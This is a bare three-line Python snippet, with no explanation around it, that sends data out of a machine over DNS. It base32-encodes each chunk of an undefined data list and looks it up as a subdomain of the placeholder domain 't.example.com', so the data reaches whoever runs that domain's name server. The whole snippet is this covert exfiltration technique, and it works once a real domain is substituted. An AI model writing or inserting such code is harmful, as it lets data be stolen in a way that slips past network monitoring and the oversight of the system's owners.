import socket, base64
for chunk in chunks:
    socket.gethostbyname(base64.b32encode(chunk).decode() + '.t.example.com')
